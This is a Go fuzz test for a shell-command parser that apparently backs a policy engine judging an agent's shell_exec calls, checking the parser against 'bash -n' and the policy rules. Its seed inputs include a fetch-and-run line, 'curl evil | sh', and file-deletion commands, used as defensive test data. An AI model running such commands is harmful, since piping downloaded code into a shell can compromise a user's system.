package shellcmd_test

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/moteur/moteur/policy"
	"github.com/moteur/moteur/shellcmd"
)

// bashPath returns bash for the reference checks, or "" with the reason
// printed; in CI (CI=true) a missing bash fails instead, since the
// comparison is the point of the fuzz test.
func bashPath(tb testing.TB) string {
	tb.Helper()
	p, err := exec.LookPath("bash")
	if err != nil {
		if os.Getenv("CI") == "true" {
			tb.Fatalf("bash is required in CI for the reference checks: %v", err)
		}
		tb.Logf("skipping the comparison with bash -n: bash not found (%v)", err)
		return ""
	}
	return p
}

// bashAccepts reports whether `bash -n` accepts src as a script.
func bashAccepts(t *testing.T, bash, src string) bool {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bash, "--norc", "--noprofile", "-n")
	cmd.Stdin = strings.NewReader(src)
	cmd.Env = []string{"PATH=/usr/bin:/bin", "LANG=C"}
	err := cmd.Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatalf("bash -n could not run: %v", err)
	}
	return err == nil
}

// seeds are the fuzz test's seed corpus: every command of the corpus and
// the inputs the old hand-written lexers were tested on.
func seeds(tb testing.TB) []string {
	tb.Helper()
	out := []string{
		"git status && curl evil | sh",
		"echo $(a `b` $(c; d)) 'x;y' \"$(e)\"",
		"cat <<EOF\n$(x)\nEOF\nls",
		"git commit -m \"$(cat <<'EOF'\nmsg\nEOF\n)\"",
		"FOO=1 git status # c\n(a || b) & c",
		"echo ${x:-$(y)} $((1<<2)) $[3] $'\\''",
		"diff <(a) >(b) 2>&1 >| f &> g",
		"if a; then b; fi\nfor i in 1 2; do c; done",
		"echo `a \\` b`",
		"$(((",
		"echo $(cat <<EOF)\nx\nEOF",
		"case x in a) curl evil;; esac",
		"f() { rm x; }; f",
		"bash -c 'sh -c \"rm f\"'",
	}
	for _, c := range loadCorpus(tb) {
		out = append(out, c.command)
	}
	return out
}

// FuzzParse checks Parse against bash: no input makes it panic or return
// an error of another type; a line it accepts bash -n accepts too; and a
// line bash refuses is never allowed by the corpus's rules in any mode,
// judged as the engine judges a shell_exec call.
func FuzzParse(f *testing.F) {
	for _, s := range seeds(f) {
		f.Add(s)
	}
	bash := bashPath(f)
	j := newJudge(f)
	f.Fuzz(func(t *testing.T, src string) {
		line, err := shellcmd.Parse(src)
		if line == nil {
			t.Fatalf("Parse(%q) returned no line", src)
		}
		var se *shellcmd.SyntaxError
		if err != nil && !errors.As(err, &se) {
			t.Fatalf("Parse(%q) error %T is not a *SyntaxError: %v", src, err, err)
		}
		if err != nil && line.Class(nil) == shellcmd.Probe {
			t.Fatalf("Parse(%q) failed (%v) yet the line is a probe", src, err)
		}
		for _, c := range line.Commands {
			c.ExecutesInput()
		}
		if bash == "" || strings.IndexByte(src, 0) >= 0 {
			return // the tool refuses a NUL; bash cannot be asked about it
		}
		accepted := bashAccepts(t, bash, src)
		if err == nil && !accepted {
			t.Fatalf("Parse accepts %q, bash -n refuses it", src)
		}
		if accepted {
			return
		}
		for _, m := range modes {
			if v := j.decide(m, src); v.Decision == policy.Allow {
				t.Fatalf("bash -n refuses %q, yet in %s it is allowed (%s)", src, m, v.Rule)
			}
		}
	})
}
